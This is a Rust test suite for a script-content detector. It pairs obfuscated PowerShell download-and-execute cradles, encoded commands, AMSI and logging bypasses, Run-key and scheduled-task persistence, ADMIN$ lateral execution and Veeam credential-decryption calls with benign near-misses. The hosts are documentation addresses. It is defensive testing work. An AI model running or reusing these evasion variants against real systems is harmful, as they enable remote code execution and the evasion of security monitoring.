//! Each condition beside the nearest thing that does not meet it. Payloads are inert: addresses of documentation, no code.

use data_encoding::BASE64;

use super::{METAS, conditions};
use crate::content::{ContentConfig, Kind, Unfolding, unfold};
use crate::registry::REGISTRY;

fn unfolded(text: &str, kind: Kind) -> Unfolding {
    unfold(text.as_bytes(), kind, &super::NAMES, &ContentConfig::default())
}

/// Ids and severities.
fn met(text: &str, kind: Kind) -> Vec<(u64, u8)> {
    conditions(&unfolded(text, kind), &ContentConfig::default())
        .iter()
        .map(|told| (told.meta.sid, told.severity.unwrap_or(told.meta.severity)))
        .collect()
}

fn sids(text: &str, kind: Kind) -> Vec<u64> {
    met(text, kind).into_iter().map(|(sid, _)| sid).collect()
}

fn wide(text: &str) -> String {
    BASE64.encode(&text.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>())
}

#[track_caller]
fn script(text: &str, expected: &[u64]) {
    assert_eq!(sids(text, Kind::Script), expected, "{text}");
}

#[track_caller]
fn command(text: &str, expected: &[u64]) {
    assert_eq!(sids(text, Kind::Command), expected, "{text}");
}

#[test]
fn content_is_on_the_list() {
    assert!(METAS.iter().all(|meta| REGISTRY.iter().any(|one| one.metas.iter().any(|other| other.sid == meta.sid))));
    assert!(METAS.iter().all(|meta| !super::rules(meta.sid).is_empty()));
}

#[test]
fn a_download_that_is_run_is_told_however_it_is_written() {
    for text in [
        "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')",
        "iex((New-Object System.Net.WebClient).DownloadString(\"http://203.0.113.7/a\"))",
        "IEX(IWR http://203.0.113.7/a -UseBasicParsing)",
        "IEX (iwr 'http://203.0.113.7/a').Content",
        "iwr -Uri http://203.0.113.7/a | iex",
        "(iwr http://203.0.113.7/a).Content | Invoke-Expression",
        "Invoke-RestMethod http://203.0.113.7/a | Out-String | iex",
        "$w = New-Object Net.WebClient; $c = $w.DownloadString('http://203.0.113.7/a'); Invoke-Expression $c",
        "$c=(New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')\n# later\niex $c",
        "&('i'+'ex') (New-Object Net.WebClient).('Down'+'loadString')('http://203.0.113.7/a')",
        "I`E`X (N`ew-Ob`ject Net.WebClient).\"Do`wnlo`adString\"('http://203.0.113.7/a')",
        "& (gcm i*x) (iwr http://203.0.113.7/a)",
        ". ( $env:ComSpec[4,26,25]-join'') (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')",
        "&( $pshome[4]+$pshome[30]+'x') (irm http://203.0.113.7/a)",
        "&( $ShellId[1]+$ShellId[13]+'x') (irm http://203.0.113.7/a)",
        "& ([scriptblock]::Create((New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')))",
        "[scriptblock]::Create((irm http://203.0.113.7/a)).Invoke()",
        "Invoke-Command -ScriptBlock ([scriptblock]::Create((irm http://203.0.113.7/a)))",
        "$ExecutionContext.InvokeCommand.InvokeScript((irm http://203.0.113.7/a))",
        "sal z Invoke-Expression; z (irm http://203.0.113.7/a)",
        "iex ([Text.Encoding]::UTF8.GetString((New-Object Net.WebClient).DownloadData('http://203.0.113.7/a')))",
        "$x=New-Object -ComObject Msxml2.XMLHTTP;$x.open('GET','http://203.0.113.7/a',$false);$x.send();iex $x.responseText",
        "iex (New-Object IO.StreamReader ([Net.WebRequest]::Create('http://203.0.113.7/a').GetResponse().GetResponseStream())).ReadToEnd()",
        "iex \"$(irm http://203.0.113.7/a)\"",
        "if ($true) { try { iex (irm 'http://203.0.113.7/a') } catch { } }",
        "function Get-It { param($u) Invoke-Expression (Invoke-WebRequest $u) }",
        "irm http://203.0.113.7/a | % { iex $_ }",
        "iex ('{1}{0}' -f 'x','ie' ) ; iex ('(ir'+'m http://203.0.113.7/a) | i'+'ex')",
        "iex (-join [char[]](105,101,120,32,40,105,114,109,32,104,116,116,112,58,47,47,97,41))",
        "iex (-join (105,101,120,32,40,105,114,109,32,104,116,116,112,58,47,47,97,41 | % { [char]$_ }))",
        "iex ('69 65 78 20 28 69 72 6d 20 68 74 74 70 3a 2f 2f 61 29'.Split(' ') | % { [char]([convert]::ToInt16($_,16)) } | Join-String)",
        "$s = ')a//:ptth mri( xei'; iex ($s[-1..-($s.Length)] -join '')",
        "$a = ')a//:ptth mri( xei'.ToCharArray(); [array]::Reverse($a); iex (-join $a)",
        "iex ('iZZex (irm httZZp://a)' -replace 'ZZ','')",
        "iex ('iZZex (irm httZZp://a)'.Replace('ZZ',''))",
        "iex ([char]105+[char]101+[char]120+' (irm http://a)')",
        "(New-Object Net.WebClient).DownloadString('http://203.0.113.7/a') | & (gcm i*x)",
        "& ((gv '*mdr*').Name[3,11,2]-join'') (irm http://203.0.113.7/a)",
        "SV q 'ie';SV r 'x';.((LS Variable:q).Value+(LS Variable:/r).Value) (irm http://203.0.113.7/a)",
        "Set-Item Variable:/z 'iex';&(Get-Item Variable:z).Value (irm http://203.0.113.7/a)",
        "$a='(New-Object Net.WebClient)';$b='.DownloadString(''http://203.0.113.7/a'')';iex ($a+$b|iex)",
        "function Get-It($u) { (New-Object Net.WebClient).DownloadString($u) }\niex (Get-It 'http://203.0.113.7/a')",
        "function Get-It { try { return irm http://203.0.113.7/a } catch { } }; iex (Get-It)",
        ". { iwr -useb http://203.0.113.7/a } | iex",
        "&{$(irm http://203.0.113.7/a)}|iex",
        "(New-Object Net.WebClient)|% DownloadString 'http://203.0.113.7/a'|iex",
        "(New-Object Net.WebClient)|% {$_.DownloadString('http://203.0.113.7/a')} | iex",
        "New-Module -ScriptBlock ([scriptblock]::Create((irm http://203.0.113.7/a)))",
        "$h=@{};$h.code=irm http://203.0.113.7/a;iex $h.code",
        "$s=New-Object Diagnostics.ProcessStartInfo;$s.FileName='C:\\W\\powershell.exe';$s.Arguments='-nop -c iex(irm http://203.0.113.7/a)'",
        "$s.FileName='powershell.exe';$s.Arguments='-nop -w hidden -c &([scriptblock]::create((irm http://203.0.113.7/a)))'",
        "[Diagnostics.Process]::Start('powershell','-nop -w hidden -c iex(irm http://203.0.113.7/a)')",
        "([wmiclass]'Win32_Process').Create('powershell -nop -c iex(irm http://203.0.113.7/a)')",
        "Invoke-CimMethod -MethodName Create -Arguments @{CommandLine='powershell -c iex(irm http://203.0.113.7/a)'}",
        "New-ItemProperty HKCU:\\Software\\Run -Name x -Value 'powershell -w hidden -c iex(irm http://203.0.113.7/a)'",
        "function script:get-it { param($u)\n return irm $u }; Get-It http://203.0.113.7/a | iex",
        "iex (-join (44,32,61,101,109,44,55,40,101,45,49,49,53,127,106,106,36,108 | % { [char]($_ -bxor 69) }))",
    ] {
        assert!(sids(text, Kind::Script).contains(&9_403_003), "{text}\n{:#?}", unfolded(text, Kind::Script));
    }
}

#[test]
fn a_download_that_is_not_run_is_not_told() {
    for text in [
        "Invoke-WebRequest -Uri https://example.com/setup.msi -OutFile C:\\Temp\\setup.msi; Start-Process msiexec.exe -ArgumentList '/i C:\\Temp\\setup.msi /qn'",
        "(New-Object Net.WebClient).DownloadFile('https://example.com/a.zip', 'C:\\a.zip')",
        "$json = Invoke-RestMethod https://example.com/api; $json.version",
        "Write-Host 'iex (iwr http://example.com/a)'",
        "# iex (iwr http://example.com/a)\nGet-Process",
        "<#\n.EXAMPLE\n iex (iwr http://example.com/a)\n#>\nfunction Get-It { }",
        "$help = @'\niex (iwr http://example.com/a)\n'@\nWrite-Output $help",
        "Invoke-Expression 'Get-Process'",
        "Invoke-Expression \"& $tool --version\"",
        "$r = iwr https://example.com/hash.txt; if ($r.Content -eq $hash) { 'same' }",
        "Get-Help iex; $x = 'DownloadString'",
        "curl -o a.zip https://example.com/a.zip | iex",
        "function Get-It($u) { irm $u }\nGet-It https://example.com/a | Out-File a.txt; iex 'Get-It'",
        "function Get-It { return irm https://example.com/a }; (Get-It).version; iex 'Get-Date'",
        "& { irm https://example.com/a } | Out-File a.txt; $h.code = irm https://example.com/a; iex $h.name",
        "$s.FileName='notepad'; $s.Arguments='iex (irm http://203.0.113.7/a)'; [Diagnostics.Process]::Start($s)",
        "Write-Host 'powershell -c iex(irm http://203.0.113.7/a)'; $text='powershell -c iex(irm http://203.0.113.7/a)'",
        "(gv x).Value; (Get-Item a.txt).Name | iex; irm https://example.com/a",
    ] {
        assert!(sids(text, Kind::Script).is_empty(), "{text}");
    }
}

#[test]
fn published_installers_are_informative() {
    assert_eq!(met("iex (irm https://get.scoop.sh)", Kind::Script), [(9_403_003, 3)]);
    for url in [
        "http://get.scoop.sh",
        "https://get.scoop.sh.example.net/",
        "https://get.scoop.sh@203.0.113.7/",
        "https://203.0.113.7/get.scoop.sh",
    ] {
        assert_eq!(met(&format!("iex (irm {url})"), Kind::Script), [(9_403_003, 1)], "{url}");
    }
    assert_eq!(met("iex (irm https://get.scoop.sh); iex (irm https://203.0.113.7/a)", Kind::Script), [(9_403_003, 1)]);
}

#[test]
fn commands_are_read_as_windows_reads_them() {
    for text in [
        r#"powershell.exe -ex bypass -Command "iex ((New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1'))""#,
        r#"cmd /c powershell -nop -c "IEX(irm http://203.0.113.7/a)""#,
        r#"cmd.exe /c "powershell -nop -c IEX(irm http://203.0.113.7/a)""#,
        r#"p^ow^ershe^ll -c "iex (irm http://203.0.113.7/a)""#,
        r#"set a=power&& set b=shell&& call %a%%b% -c "iex (irm http://203.0.113.7/a)""#,
        r#"whoami & C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe "iex (irm http://203.0.113.7/a)""#,
        r#"%COMSPEC% /c start /b powershell iex(irm http://203.0.113.7/a)"#,
        r#"echo iex (irm http://203.0.113.7/a) | powershell -"#,
        r#"schtasks /create /tn x /tr "powershell -c iex(irm http://203.0.113.7/a)""#,
        r#"%PSModulePath:~0,0%powershell -c iex(irm http://203.0.113.7/a)"#,
    ] {
        assert_eq!(sids(text, Kind::Command), [9_403_003], "{text}\n{:#?}", unfolded(text, Kind::Command));
    }
    for text in [
        "whoami",
        "echo iex (irm http://a)",
        "dir \\\\host\\share",
        "powershell -c Get-Service",
        "ping example.com & echo done",
        "%x",
        "^",
        "\"",
        "",
    ] {
        command(text, &[]);
    }
}

#[test]
fn files_of_other_interpreters_call_it_too() {
    for text in [
        "@echo off\r\ncall powershell -nop -c \"iex(irm http://203.0.113.7/a)\"\r\n",
        "if not exist C:\\a.txt powershell -nop -c \"iex(irm http://203.0.113.7/a)\"\r\n",
        "@echo off\r\nset x=$y\r\np^ower^shell -c \"iex(irm http://203.0.113.7/a)\"\r\n",
        "Set shell = CreateObject(\"WScript.Shell\")\r\nshell.Run \"powershell -w hidden -c iex(irm http://203.0.113.7/a)\", 0\r\n",
        "CreateObject(\"WScript.Shell\").Run \"cmd /c powershell -c \"\"iex(irm http://203.0.113.7/a)\"\"\"\r\n",
        "new ActiveXObject('WScript.Shell').Run('powershell -c iex(irm http://203.0.113.7/a)');",
    ] {
        assert_eq!(sids(text, Kind::Unknown), [9_403_003], "{text}");
    }
    // Bytes in a comment that no text has.
    let cradle = "iex (irm http://203.0.113.7/a)";
    for hidden in ["\0", "\u{1}", "\u{1}\u{1b}\0"] {
        let text = format!("# {}\r\n{cradle}\r\n", hidden.repeat(1_000));
        assert_eq!(sids(&text, Kind::Unknown), [9_403_003], "{hidden:?}");
    }
    assert_eq!(sids(&format!("$x = '{}'\n{cradle}", "\u{1}".repeat(3_000)), Kind::Unknown), [9_403_003]);
    let lateral = "@echo off\r\np^ower^shell -noni -nop -exe bypass -f \\\\host\\ADMIN$\\temp\\a1B2c3D4e5F6.ps1\r\n";
    assert_eq!(sids(lateral, Kind::Unknown), [9_403_005]);
    for text in [
        "shell.Run \"notepad powershell iex(irm http://203.0.113.7/a)\"\r\n",
        "log.Write \"powershell -c iex(irm http://203.0.113.7/a)\"\r\n",
        "@echo off\r\necho call powershell -c iex(irm http://203.0.113.7/a)\r\n",
        "copy \\\\srv\\c$\\temp\\a.log .\r\nif %ERRORLEVEL% NEQ 0 echo failed^!\r\n",
    ] {
        assert_eq!(sids(text, Kind::Unknown), [0; 0], "{text}");
    }
}

#[test]
fn encoded_commands_count_with_flags() {
    let code = wide("Write-Output 'inert check alpha'; whoami");
    for flag in ["-EncodedCommand", "-e", "-enc", "-ec", "/enc", "-eNcOd", "\u{2013}enc", "--enc"] {
        assert_eq!(met(&format!("powershell -w hidden {flag} {code}"), Kind::Command), [(9_403_004, 2)], "{flag}");
        assert_eq!(met(&format!("powershell.exe -NonI {flag} \"{code}\""), Kind::Command), [(9_403_004, 2)], "{flag}");
        assert_eq!(met(&format!("pwsh {flag} {code} -ExecutionPolicy Bypass"), Kind::Command), [(9_403_004, 2)], "{flag}");
        assert_eq!(met(&format!("powershell -nop {flag} {code}"), Kind::Command), [(9_403_004, 3)], "{flag}");
    }
    let told = unfolded(&format!("powershell -w 1 -enc {code}"), Kind::Command);
    assert_eq!(told.layers[0].how, ["encoded-command", "base64", "utf-16le"]);
    assert!(String::from_utf8_lossy(&told.layers[0].bytes).starts_with("Write-Output 'inert"));
    command(&format!("echo powershell -w hidden -enc {code}"), &[]);
    command("powershell -w hidden -noni -ep bypass -f C:\\scripts\\nightly.ps1", &[]);
    command("powershell -w hidden -enc %CODE%", &[]);
    // A script that starts itself again: the code is not constant.
    script(
        "$e=[Convert]::ToBase64String([Text.Encoding]::Unicode.GetBytes($cmd)); powershell -NonInteractive -EncodedCommand $e",
        &[],
    );
    // Without flags, only what was sent to be run.
    script(&format!("Write-Host 'powershell -enc {code}'"), &[]);
    assert_eq!(met(&format!("powershell -noni -enc {code}"), Kind::Script), [(9_403_004, 2)]);
}

#[test]
fn layers_are_followed_into_each_other() {
    let inner = "iex (irm http://203.0.113.7/a)";
    let text = format!("powershell -enc {}", wide(&format!("powershell -noni -e {}", wide(inner))));
    assert_eq!(sids(&text, Kind::Command), [9_403_003, 9_403_004]);
    let packed = |pack: &dyn Fn(&[u8]) -> Vec<u8>| BASE64.encode(&pack(inner.as_bytes()));
    let gzip = packed(&|bytes| compressed(flate2::read::GzEncoder::new(bytes, flate2::Compression::default())));
    let deflate = packed(&|bytes| compressed(flate2::read::DeflateEncoder::new(bytes, flate2::Compression::default())));
    for (stream, code) in [("GzipStream", &gzip), ("DeflateStream", &deflate)] {
        let text = format!(
            "IEX (New-Object IO.StreamReader(New-Object IO.Compression.{stream}([IO.MemoryStream][Convert]::FromBase64String('{code}'),\
             [IO.Compression.CompressionMode]::Decompress))).ReadToEnd()"
        );
        assert_eq!(sids(&text, Kind::Script), [9_403_003], "{text}\n{:#?}", unfolded(&text, Kind::Script));
    }
    let of_file = |bytes: Vec<u8>| {
        let unfolding = unfold(&bytes, Kind::Unknown, &super::NAMES, &ContentConfig::default());
        conditions(&unfolding, &ContentConfig::default()).iter().map(|told| told.meta.sid).collect::<Vec<_>>()
    };
    assert_eq!(of_file(compressed(flate2::read::GzEncoder::new(inner.as_bytes(), flate2::Compression::default()))), [9_403_003]);
    for mark in [true, false] {
        let mark = mark.then_some(0xFEFF_u16);
        assert_eq!(of_file(mark.into_iter().chain(inner.encode_utf16()).flat_map(u16::to_le_bytes).collect()), [9_403_003]);
        assert_eq!(of_file(mark.into_iter().chain(inner.encode_utf16()).flat_map(u16::to_be_bytes).collect()), [9_403_003]);
    }
    assert_eq!(of_file(format!("\u{feff}{inner}").into_bytes()), [9_403_003]);
}

fn compressed(mut reader: impl std::io::Read) -> Vec<u8> {
    let mut out = Vec::new();
    reader.read_to_end(&mut out).unwrap();
    out
}

#[test]
fn the_loader_is_told_by_its_shape_and_by_its_name() {
    script(
        "$b=[Convert]::FromBase64String($p);$d=New-Object IO.Compression.DeflateStream($m,0)\n\
         [Runtime.InteropServices.Marshal]::GetDelegateForFunctionPointer($a,$t).Invoke()",
        &[9_403_001],
    );
    script("iex (irm http://203.0.113.7/icsnd16_64refl.ps1)", &[9_403_003]);
    script(
        "iex (irm http://203.0.113.7/icsnd16_64refl.ps1); powershell -f C:\\temp\\icbt11801_64refl.ps1",
        &[9_403_001, 9_403_003],
    );
    command("powershell -f C:\\temp\\icbt11801_64refl.ps1", &[9_403_001]);
    command("curl -O http://203.0.113.7/icsnd16_64refl.ps1", &[9_403_001]);
    script("(New-Object Net.WebClient).DownloadFile('http://203.0.113.7/icsnd16_64refl.ps1', 'a.ps1')", &[9_403_001]);
    script(r"& \\host\share\icsnd16_64refl.ps1", &[9_403_001]);
    script("The loader is named icsnd16_64refl.ps1 or so", &[]);
    command("echo icsnd16_64refl.ps1", &[]);
    script("$b=[Convert]::FromBase64String($p); $d=New-Object IO.Compression.DeflateStream($m,0)", &[]);
    script("[Runtime.InteropServices.Marshal]::GetDelegateForFunctionPointer($a,$t)", &[]);
    script("# FromBase64String DeflateStream GetDelegateForFunctionPointer", &[]);
    script("# icsnd16_64refl.ps1\n$indicators = 'icsnd16_64refl.ps1', 'other'", &[]);
}

#[test]
fn the_other_scripts_of_the_campaign() {
    script(
        "$MainPayload=$x; $p=$env:APPDATA+'\\a.bin'; [IO.File]::WriteAllBytes($p,$MainPayload); & wscript.exe $p",
        &[9_403_002],
    );
    script("[IO.File]::WriteAllBytes($env:APPDATA+'\\a.bin',$bytes)", &[]);
    script("Write-Host 'MainPayload WriteAllBytes wscript.exe APPDATA'", &[]);
    for class in ["[Veeam.Backup.Common.ProtectedStorage]", "([type]'Veeam.Backup.Common.ProtectedStorage')"] {
        script(&format!("{class}::GetLocalString($row.password)"), &[9_403_006]);
    }
    script("Write-Host 'Veeam.Backup.Common.ProtectedStorage GetLocalString'", &[]);
    script("Get-VBRJob | % { $_.GetLocalString() }", &[]);
}

#[test]
fn scripts_from_administrative_shares() {
    for text in [
        r"powershell.exe -noni -nop -exe bypass -f \\10.20.30.10\ADMIN$\temp\a1B2c3D4e5F6.ps1",
        r"powershell -ep bypass -File \\host\C$\Windows\Temp\x.ps1",
        r#"cmd /c powershell -ExecutionPolicy Bypass -NoProfile /f "\\host\admin$\x.ps1""#,
        r#"powershell -ep bypass -c "& '\\host\admin$\temp\x.ps1'""#,
        r"powershell -noni -nop -f \\host\ADMIN$\temp\a1B2c3D4e5F6.ps1",
    ] {
        command(text, &[9_403_005]);
    }
    for text in [
        r"powershell -ep bypass -f \\dc\SYSVOL\example.lan\scripts\logon.ps1",
        r"powershell -ep bypass -f \\host\C$\Scripts\patch.ps1",
        r"powershell -f \\host\ADMIN$\temp\nightly.ps1",
        r"copy a.ps1 \\host\ADMIN$\temp\a.ps1",
    ] {
        command(text, &[]);
    }
}

#[test]
fn watching_switched_off() {
    for text in [
        "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)",
        "[Ref].Assembly.GetType('System.Management.Automation.Am'+'siUt'+'ils').GetField('am'+'siInit'+'Failed','NonPublic,Static').SetValue($null,$true)",
        "$f=[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiContext','NonPublic,Static').GetValue($null);\
         [Runtime.InteropServices.Marshal]::WriteInt32($f,0x41424344)",
        "[Reflection.Assembly]::Load([Convert]::FromBase64String($x))",
        "[System.Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData('http://203.0.113.7/a'))",
        "$b=(New-Object Net.WebClient).DownloadData('http://203.0.113.7/a'); [AppDomain]::CurrentDomain.Load($b)",
        "$f=[ref].Assembly.GetType('System.Management.Automation.Utils').GetField('cachedGroupPolicySettings','NonPublic,Static');\
         $f.GetValue($null)['ScriptBlockLogging']['EnableScriptBlockLogging']=0",
    ] {
        script(text, &[9_403_007]);
    }
    for text in [
        "Set-ItemProperty HKLM:\\Software\\Policies\\PowerShell\\ScriptBlockLogging EnableScriptBlockLogging 1",
        "[Reflection.Assembly]::LoadWithPartialName('System.Web')",
        "[Reflection.Assembly]::Load('System.Web, Version=4.0.0.0')",
        "[Reflection.Assembly]::Load([IO.File]::ReadAllBytes($path))",
        "Get-MpComputerStatus | select AMServiceEnabled # AmsiUtils amsiInitFailed SetValue",
        "$names = 'AmsiUtils','amsiInitFailed','SetValue'",
    ] {
        script(text, &[]);
    }
}

#[test]
fn limits_bite_and_are_told() {
    let bomb = compressed(flate2::read::GzEncoder::new(&vec![0x20; 64 << 20][..], flate2::Compression::best()));
    let unfolding = unfold(&bomb, Kind::Unknown, &[], &ContentConfig::default());
    assert!(unfolding.cut);
    assert!(unfolding.layers.iter().map(|layer| layer.bytes.len()).sum::<usize>() <= 4 << 20);
    let mut nested = "whoami".to_owned();
    for _ in 0..12 {
        nested = format!("powershell -enc {}", wide(&nested));
    }
    let unfolding = unfolded(&nested, Kind::Command);
    assert!(unfolding.layers.len() <= 64);
    let small = ContentConfig { max_input: 10, max_tokens: 3, ..ContentConfig::default() };
    assert!(unfold(b"a b c d e f g h", Kind::Script, &[], &small).cut);
}

#[test]
fn the_worst_texts_take_linear_time() {
    let size = 1 << 18;
    let of = |piece: &str| piece.repeat(size / piece.len());
    for text in [
        of("`"),
        of("function a("),
        of("function a{"),
        of("function a{return &{"),
        of("&{"),
        of("return {"),
        of("$x|%{"),
        format!("{}{}", "$x|%{".repeat(size / 6), "}".repeat(size / 6)),
        of("a.Run \"cmd /c x\";"),
        of("("),
        of("{"),
        of("["),
        of("'a'+"),
        of("$("),
        of("\"$("),
        of("@'"),
        of("${"),
        of("-"),
        of("^"),
        of("%a"),
        of("!a:~1,"),
        of("a."),
        of("$a+="),
        of("$a=$a+$a;"),
        of("iex "),
        of("iex 'iex ';"),
        of("'{0}'-f"),
        of("|%{"),
        of("&"),
        of("|"),
        of("powershell -c "),
        of("cmd /c "),
        of("\\"),
        of("\""),
        of("\\\""),
        of("1..9999;"),
        of("'a'*4096;"),
        of("[char]"),
        of(",1"),
        of("-join"),
        of("a'b"),
        of("#<"),
        format!("{}{}", of("("), of(")")),
        format!("{}{}", of("{("), of(")}")),
        format!("iex ('{}' -f 'a')", of("{0}")),
        format!("iex ('{}'.Replace('a','bb'))", of("a")),
        format!("$a='{}';{}", of("a"), "$b=$a;".repeat(9_999)),
        format!("$a='{}';{}", of("a"), "$a[1]+".repeat(9_999)),
        format!("-join ({}|%{{[char]$_}})", of("65,")),
        "x=".to_owned() + &of("$x.a.b.c.d"),
        of("set a=%a%%a%&"),
        of("'aaaa'-replace'aaab|aaac','x';"),
        of(","),
        of(",[x]"),
        of("[scriptblock]"),
        of("$a=,$a;"),
        of("$a=[scriptblock]::Create($a);"),
        of("$a=@($a,1);"),
        of("$a.Length;"),
        format!("$a='{}';{}", of("a"), "$a.Length;".repeat(9_999)),
        // Each of these asks something of a long value again and again.
        format!("$a='{}'.ToCharArray();$b={}$a", "a".repeat(9_999), "[char[]]".repeat(9_999)),
        format!("$a=1..9999;$b={}$a", "[char[]][byte[]]".repeat(9_999)),
        format!("$a=('{}','y');{}", of("x"), "$a[0];".repeat(9_999)),
        format!("$a=1..99999;{}", "$a.foo;".repeat(9_999)),
        format!("$a=1..99999;{}", "[array]::Reverse($a);".repeat(9_999)),
        format!("$a='{}';{}", of("x"), "$o.$a;".repeat(9_999)),
        format!("$a=@();{}", "$a+=1;".repeat(99_999)),
        format!("$a=[byte[]](1..9999);{}", "$a.ToString();".repeat(9_999)),
        of("45..2|%{(1..99|%{(1..99|%{$_})})};"),
    ] {
        for kind in [Kind::Script, Kind::Command, Kind::Unknown] {
            let started = backstop_testkit::Stopwatch::start();
            drop(unfolded(&text, kind));
            let took = started.elapsed();
            assert!(took.as_secs() < 8, "{} {kind:?}: {took:?}", &text[..20]);
            if took.as_millis() > 1500 {
                eprintln!("{} {kind:?}: {took:?}", &text[..20]);
            }
        }
    }
}

/// Scripts of administrators: those that the content rules are tested with, and all below the folder that
/// `BACKSTOP_BENIGN_SCRIPTS` names (nothing of it is committed).
#[test]
fn benign_scripts_raise_no_severe_alert() {
    let shipped = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../signatures/tests/samples/benign");
    let mut folders = vec![shipped];
    folders.extend(std::env::var_os("BACKSTOP_BENIGN_SCRIPTS").map(std::path::PathBuf::from));
    let (mut seen, mut all) = (0, Vec::<String>::new());
    while let Some(folder) = folders.pop() {
        for entry in std::fs::read_dir(folder).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                folders.push(path);
                continue;
            }
            if path.extension().is_none() {
                continue;
            }
            let bytes = std::fs::read(&path).unwrap();
            seen += 1;
            for kind in [Kind::Unknown, Kind::Script] {
                let unfolding = unfold(&bytes, kind, &super::NAMES, &ContentConfig::default());
                let met = conditions(&unfolding, &ContentConfig::default()).into_iter();
                let severe = met.filter(|told| told.severity.unwrap_or(told.meta.severity) < 3);
                all.extend(severe.map(|told| format!("{} {kind:?}: {} {:?}", path.display(), told.meta.sid, told.evidence)));
            }
        }
    }
    assert!(all.is_empty(), "{all:#?}");
    let fetched = std::env::var_os("BACKSTOP_BENIGN_SCRIPTS").is_some();
    assert!(seen >= if fetched { 75 } else { 15 }, "{seen}");
    eprintln!("{seen} scripts");
}
